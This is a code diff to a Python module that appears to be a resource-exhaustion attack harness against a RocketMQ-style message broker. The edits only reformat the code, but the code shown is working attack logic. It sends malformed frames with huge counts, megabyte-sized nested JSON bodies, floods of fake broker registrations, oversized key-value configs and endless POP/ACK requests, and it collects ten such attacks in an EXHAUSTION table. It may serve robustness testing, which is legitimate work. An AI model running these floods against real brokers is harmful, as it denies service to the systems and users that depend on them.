@@ -71,11 +71,14 @@ def beat(client: str, groups: list[str], subscriptions: int, expression: str = "
     ]
     consumers = [
         {
-            "groupName": group, "consumeType": "CONSUME_PASSIVELY", "messageModel": "CLUSTERING",
-            "consumeFromWhere": "CONSUME_FROM_LAST_OFFSET", "subscriptionDataSet": topics,
+            "groupName": group,
+            "consumeType": "CONSUME_PASSIVELY",
+            "messageModel": "CLUSTERING",
+            "consumeFromWhere": "CONSUME_FROM_LAST_OFFSET",
+            "subscriptionDataSet": topics,
         }
         for group in groups
-    ]  # fmt: skip
+    ]
     producers = [{"groupName": group} for group in groups]
     return json.dumps(
         {"clientID": client, "consumerDataSet": consumers, "producerDataSet": producers}
@@ -140,15 +143,36 @@ def huge_counts(field: Field) -> AttackSockets:
         request(RequestCode.SEND_BATCH_MESSAGE, send_ext("Counts", m="true"), most + bytes(100)),
         request(RequestCode.SEND_MESSAGE_V2, send_ext("Counts", i="k\x01v\x02" * 8000), b"x"),
         request(RequestCode.BATCH_ACK_MESSAGE, {}, b'{"acks":[' + b"{}," * 100_000 + b"{}]}"),
-        request(RequestCode.QUERY_MESSAGE, {"topic": "Background", "key": "k", "maxNum": "2147483647",
-                                            "beginTimestamp": "0", "endTimestamp": "9223372036854775807"}),
-        request(RequestCode.POP_MESSAGE, {"consumerGroup": "g", "topic": "Background", "queueId": "-1",
-                                          "maxMsgNums": "2147483647", "invisibleTime": "60000", "pollTime": "1",
-                                          "bornTime": "1", "initMode": "0"}),
+        request(
+            RequestCode.QUERY_MESSAGE,
+            {
+                "topic": "Background",
+                "key": "k",
+                "maxNum": "2147483647",
+                "beginTimestamp": "0",
+                "endTimestamp": "9223372036854775807",
+            },
+        ),
+        request(
+            RequestCode.POP_MESSAGE,
+            {
+                "consumerGroup": "g",
+                "topic": "Background",
+                "queueId": "-1",
+                "maxMsgNums": "2147483647",
+                "invisibleTime": "60000",
+                "pollTime": "1",
+                "bornTime": "1",
+                "initMode": "0",
+            },
+        ),
         request(RequestCode.HEART_BEAT, body=b"[" * 1_000_000),
         request(RequestCode.HEART_BEAT, body=b'{"a":' * 500_000),
-        request(RequestCode.UPDATE_AND_CREATE_TOPIC_LIST, body=b'{"topicConfigList":[' + b"{}," * 500_000 + b"{}]}"),
-    )  # fmt: skip
+        request(
+            RequestCode.UPDATE_AND_CREATE_TOPIC_LIST,
+            body=b'{"topicConfigList":[' + b"{}," * 500_000 + b"{}]}",
+        ),
+    )
     until = time.monotonic() + field.seconds
     while time.monotonic() < until:
         for frame in bad:
@@ -187,10 +211,14 @@ def registrations(field: Field) -> AttackSockets:
             wrapper = {"topicConfigSerializeWrapper": {"topicConfigTable": own, "dataVersion": version}}
             body = json.dumps(wrapper | {"filterServerList": []}).encode()
             ext = {
-                "brokerName": f"fake{n}", "brokerAddr": f"127.0.0.1:{n % 60000 + 1}", "clusterName": "Fake",
-                "haServerAddr": "h:1", "brokerId": "0", "compressed": "false",
+                "brokerName": f"fake{n}",
+                "brokerAddr": f"127.0.0.1:{n % 60000 + 1}",
+                "clusterName": "Fake",
+                "haServerAddr": "h:1",
+                "brokerId": "0",
+                "compressed": "false",
                 "bodyCrc32": str(zlib.crc32(body) & 0x7FFFFFFF),
-            }  # fmt: skip
+            }
             yield request(RequestCode.REGISTER_BROKER, ext, body)
             kv = {"namespace": f"N{n}", "key": f"k{n}", "value": "v" * 60_000}
             yield request(RequestCode.PUT_KV_CONFIG, kv)
@@ -216,13 +244,26 @@ def pops(field: Field) -> AttackSockets:
     def frames() -> Iterable[bytes]:
         for n in itertools.count():
             ext = {
-                "consumerGroup": f"P{n % 20_000}", "topic": "Background", "queueId": "-1", "maxMsgNums": "1",
-                "invisibleTime": "10000", "pollTime": "60000" if n % 2 else "0", "initMode": "1", "order": "false",
-                "bornTime": str(time.time_ns() // 1_000_000), "expType": "TAG", "exp": f"never{n}",
-            }  # fmt: skip
+                "consumerGroup": f"P{n % 20_000}",
+                "topic": "Background",
+                "queueId": "-1",
+                "maxMsgNums": "1",
+                "invisibleTime": "10000",
+                "pollTime": "60000" if n % 2 else "0",
+                "initMode": "1",
+                "order": "false",
+                "bornTime": str(time.time_ns() // 1_000_000),
+                "expType": "TAG",
+                "exp": f"never{n}",
+            }
             yield request(RequestCode.POP_MESSAGE, ext, bytes(10_000))
-            ack = {"consumerGroup": "P", "topic": "Background", "queueId": "0", "offset": str(n),
-                   "extraInfo": f"{n} 1 60000 0 0 b 0 {n}"}  # fmt: skip
+            ack = {
+                "consumerGroup": "P",
+                "topic": "Background",
+                "queueId": "0",
+                "offset": str(n),
+                "extraInfo": f"{n} 1 60000 0 0 b 0 {n}",
+            }
             yield request(RequestCode.ACK_MESSAGE, ack)
 
     return flood(field, frames())
@@ -231,7 +272,15 @@ def pops(field: Field) -> AttackSockets:
 EXHAUSTION: dict[str, Attack] = {
     each.__name__: each
     for each in (
-        unknown_topics, unknown_groups, huge_heartbeats, one_group, huge_queues, huge_counts, held_pulls,
-        registrations, same_opaque, pops,
+        unknown_topics,
+        unknown_groups,
+        huge_heartbeats,
+        one_group,
+        huge_queues,
+        huge_counts,
+        held_pulls,
+        registrations,
+        same_opaque,
+        pops,
     )
-}  # fmt: skip
+}
